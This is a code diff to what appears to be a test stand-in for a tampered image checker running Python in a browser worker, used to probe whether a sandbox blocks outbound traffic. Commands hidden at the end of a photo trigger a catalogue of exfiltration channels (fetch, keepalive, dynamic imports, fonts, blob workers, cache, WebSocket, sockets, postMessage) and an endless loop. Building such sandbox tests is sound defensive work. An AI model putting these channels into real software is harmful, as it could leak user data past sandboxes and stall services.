@@ -1,7 +1,7 @@
 """Stands in for the checker in a site that was tampered with: tries to send the photo away from Python.
 
-What to do is read from the end of the photo: a word of ORDERS, and after it a JSON array of addresses.
-A photo that ends in ``FOREVER`` is never done with.
+What to do is read from the end of the photo: ``ORDER``, and a JSON object with the name of an attempt and the
+addresses to make it at.
 """
 
 import json
@@ -20,17 +20,17 @@ from checker.report import Report
 # What Python cannot say itself, a script of its own making can: the worker may import blobs.
 SCRIPT = """
 const attempt = (name, how) => { try { Promise.resolve(how(base + name)).catch(() => {}); } catch {} };
-attempt("script-fetch", (to) => fetch(to, { mode: "no-cors" }));
-attempt("script-keepalive", (to) => fetch(to, { mode: "no-cors", method: "POST", keepalive: true }));
-attempt("script-import", (to) => import(to));
-attempt("script-font", (to) => new FontFace("leak", `url(${to})`).load());
-attempt("script-worker", (to) => new Worker(URL.createObjectURL(new Blob([`
+attempt("fetch", (to) => fetch(to, { mode: "no-cors" }));
+attempt("keepalive", (to) => fetch(to, { mode: "no-cors", method: "POST", keepalive: true }));
+attempt("import", (to) => import(to));
+attempt("font", (to) => new FontFace("leak", `url(${to})`).load());
+attempt("worker", (to) => new Worker(URL.createObjectURL(new Blob([`
   fetch("${to}", { mode: "no-cors" })`], { type: "text/javascript" }))));
-attempt("script-module-worker", (to) => new Worker(URL.createObjectURL(new Blob([`
+attempt("module-worker", (to) => new Worker(URL.createObjectURL(new Blob([`
   import "${to}"`], { type: "text/javascript" })), { type: "module" }));
-attempt("script-worker-import", (to) => new Worker(URL.createObjectURL(new Blob([`
+attempt("worker-import", (to) => new Worker(URL.createObjectURL(new Blob([`
   importScripts("${to}")`], { type: "text/javascript" }))));
-attempt("script-cache", (to) => caches.open("leak").then((cache) => cache.add(to)));
+attempt("cache", (to) => caches.open("leak").then((cache) => cache.add(to)));
 """
 # Messages that a page would be wrong to trust: markup, addresses, orders to the outer page.
 REPORT = (
@@ -46,40 +46,32 @@ MESSAGES: tuple[dict[str, Any], ...] = (
 
 def check(data: bytes, name: str, standard_ids: Sequence[str], lang: Any = "zh") -> list[Report]:
     """Do what the photo says, then judge it as if nothing had happened."""
-    if data.endswith(b"FOREVER"):
-        while True:
-            pass
-    for order, carry_out in ORDERS.items():
-        _, found, addresses = data.rpartition(order)
-        for base in json.loads(addresses) if found else []:
-            carry_out(f"{base}leak/")
+    _, found, text = data.rpartition(b"ORDER")
+    order: Any = json.loads(text) if found else {"attempt": "", "addresses": []}
+    for base in order["addresses"]:
+        try:
+            ATTEMPTS[order["attempt"]](f"{base}leak/{order['attempt']}")
+        except BaseException:
+            continue  # refused; the other address still has its try
     return honest_check(data, name, standard_ids, lang)
 
 
-def _try_all(attempts: dict[str, Callable[[str], None]], base: str) -> None:
-    for name, attempt in attempts.items():
-        try:
-            attempt(base + name)
-        except BaseException:
-            continue
+def _forever(to: str) -> None:
+    while to:
+        pass
 
 
-def _targets(base: str) -> None:
-    _try_all(ATTEMPTS, base)
-    text = f"{{ const base = {json.dumps(base)}; {SCRIPT} }}"
+def _script(to: str) -> None:
+    text = f"{{ const base = {json.dumps(to + '-')}; {SCRIPT} }}"
     blob = js.Blob.new(
         to_js([text]), to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries)
     )
     js.importScripts(js.URL.createObjectURL(blob))
 
 
-def _sockets(base: str) -> None:
-    _try_all(SOCKETS, base)
-
-
-def _messages(base: str) -> None:
+def _messages(to: str) -> None:
     for message in MESSAGES:
-        js.postMessage(js.JSON.parse(json.dumps(message).replace("TO", f"{base}message")))
+        js.postMessage(js.JSON.parse(json.dumps(message).replace("TO", to)))
 
 
 def _xhr(to: str) -> None:
@@ -133,10 +125,13 @@ ATTEMPTS: dict[str, Callable[[str], None]] = {
     "xhr": _xhr,
     "pyfetch": _pyfetch,
     "open-url": _open_url,
+    "urllib": _urllib,
+    "socket": _socket,
     "import-scripts": _import_scripts,
     "web-socket": _web_socket,
     "event-source": _event_source,
     "worker": _worker,
+    "script": _script,
+    "messages": _messages,
+    "forever": _forever,
 }
-SOCKETS: dict[str, Callable[[str], None]] = {"urllib": _urllib, "socket": _socket}
-ORDERS = {b"TARGETS": _targets, b"SOCKETS": _sockets, b"MESSAGES": _messages}
